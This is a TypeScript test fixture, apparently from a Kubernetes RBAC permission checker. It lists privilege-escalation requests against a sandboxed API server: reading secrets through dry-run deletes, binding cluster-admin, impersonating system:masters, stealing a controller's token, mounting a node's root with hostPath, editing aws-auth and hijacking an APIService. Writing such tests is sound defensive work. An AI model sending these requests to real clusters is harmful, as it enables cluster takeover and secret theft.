import type { DangerName } from "../../config/schema/allow";
import type { PolicyRule } from "../../model/rbac/policy-rule";
import type { ApiAnswer, ApiClient } from "../../sandbox/clusters/kubernetes/api-client";
import type { ApiServerAlone } from "./api-server-alone";
import {
  binding,
  clusterRole,
  controller,
  db,
  everything,
  hostPod,
  merge,
  object,
  password,
  rbac,
  rbacRule,
  rule,
  rulesTheCluster,
  takeToken,
} from "./attack-objects";

/** Something that a member of a group does with nothing but a role. */
export interface Attack {
  readonly danger: DangerName;
  readonly how: string;
  readonly rules: readonly PolicyRule[];
  /** What is asked: refused without the role. */
  readonly ask: (mallory: ApiClient) => Promise<ApiAnswer>;
  /** Part of the answer that shows that the danger is real. */
  readonly answer: string;
  /**
   * What the answer leads to.
   *
   * @default - the answer is all
   */
  readonly then?: (server: ApiServerAlone, answer: ApiAnswer, mallory: ApiClient) => Promise<void>;
}

const secrets = (verb: string) => [rule("", ["secrets"], [verb])];

export const attacks: readonly Attack[] = [
  ...[
    { how: "patch", ask: (mallory: ApiClient) => mallory.ask("PATCH", db, {}, merge) },
    {
      how: "delete that only tries",
      ask: (mallory: ApiClient) => mallory.ask("DELETE", `${db}?dryRun=All&propagationPolicy=Foreground`),
    },
    {
      how: "deletecollection that only tries",
      ask: (mallory: ApiClient) => mallory.ask("DELETE", "/api/v1/namespaces/team-a/secrets?dryRun=All"),
    },
  ].map(({ how, ask }): Attack => ({
    danger: "read-secrets",
    how: `reads a secret by ${how}`,
    rules: secrets(how.split(" ")[0]!),
    ask,
    answer: password,
  })),
  {
    danger: "escalate",
    how: "writes a role that allows everything",
    rules: [rbacRule("clusterroles", "create", "escalate")],
    ask: (mallory) => mallory.ask("POST", `${rbac}/clusterroles`, clusterRole("mine", everything)),
    answer: '"name":"mine"',
  },
  {
    danger: "bind",
    how: "binds cluster-admin to the own group",
    rules: [rbacRule("clusterrolebindings", "create"), rbacRule("clusterroles", "bind")],
    ask: (mallory) =>
      mallory.ask("POST", `${rbac}/clusterrolebindings`, {
        ...binding("bind-0", "cluster-admin"),
        metadata: { name: "up" },
      }),
    answer: '"name":"up"',
  },
  {
    danger: "impersonate",
    how: "reads a secret as a member of system:masters",
    rules: [rule("", ["users", "groups"], ["impersonate"])],
    ask: (mallory) =>
      mallory.ask("GET", db, undefined, undefined, { "impersonate-user": "x", "impersonate-group": "system:masters" }),
    answer: password,
  },
  {
    danger: "service-account-tokens",
    how: "takes the token of a controller, which gives itself everything",
    rules: [rule("", ["serviceaccounts/token"], ["create"])],
    ask: takeToken,
    answer: '"token":"',
    then: rulesTheCluster,
  },
  {
    danger: "exec",
    how: "gets as far as the node of a pod, of which there is none here",
    rules: [rule("", ["pods/exec"], ["create"])],
    ask: (mallory) => mallory.ask("POST", "/api/v1/namespaces/team-a/pods/web/exec?command=id"),
    answer: "does not have a host assigned",
  },
  {
    danger: "nodes-proxy",
    how: "gets past the API server to a kubelet by get alone, of which there is none here",
    rules: [rule("", ["nodes/proxy"], ["get"])],
    ask: (mallory) => mallory.ask("GET", "/api/v1/nodes/n/proxy/exec/team-a/web/c?command=id"),
    answer: 'nodes \\"n\\" not found',
  },
  {
    danger: "workloads",
    how: "runs a pod with a node's files as a controller",
    rules: [rule("", ["pods"], ["create"])],
    ask: (mallory) => mallory.ask("POST", "/api/v1/namespaces/kube-system/pods", hostPod("mine")),
    answer: `"serviceAccountName":"${controller}"`,
  },
  {
    danger: "api-services",
    how: "sends an API group of Kubernetes itself to a server of its own",
    rules: [rule("apiregistration.k8s.io", ["apiservices"], ["patch"])],
    ask: (mallory) =>
      mallory.ask(
        "PATCH",
        "/apis/apiregistration.k8s.io/v1/apiservices/v1.apps",
        { spec: { insecureSkipTLSVerify: true, service: { namespace: "team-a", name: "mine" } } },
        merge,
      ),
    answer: '"service":{"namespace":"team-a","name":"mine"',
  },
  {
    danger: "aws-auth",
    how: "adds an administrator to aws-auth",
    rules: [rule("", ["configmaps"], ["patch"])],
    ask: (mallory) =>
      mallory.ask(
        "PATCH",
        "/api/v1/namespaces/kube-system/configmaps/aws-auth",
        { data: { mapRoles: "- { rolearn: arn:aws:iam::111122223333:role/mine, groups: [system:masters] }" } },
        merge,
      ),
    answer: "role/mine",
  },
  {
    danger: "persistent-volumes",
    how: "makes a volume of a node's root folder",
    rules: [rule("", ["persistentvolumes"], ["create"])],
    ask: (mallory) =>
      mallory.ask(
        "POST",
        "/api/v1/persistentvolumes",
        object("v1", "PersistentVolume", "root", {
          spec: { capacity: { storage: "1Gi" }, accessModes: ["ReadWriteOnce"], hostPath: { path: "/" } },
        }),
      ),
    answer: '"hostPath":{"path":"/"',
  },
  {
    danger: "label-namespaces",
    how: "takes Pod Security off, after which a privileged pod is taken",
    rules: [rule("", ["namespaces"], ["patch"])],
    ask: async (mallory) =>
      mallory.ask(
        "PATCH",
        "/api/v1/namespaces/strict",
        { metadata: { labels: { "pod-security.kubernetes.io/enforce": null } } },
        merge,
      ),
    answer: '"name":"strict"',
    then: async ({ administrator }) => {
      await administrator.json("POST", "/api/v1/namespaces/strict/pods", hostPod("privileged"));
    },
  },
];
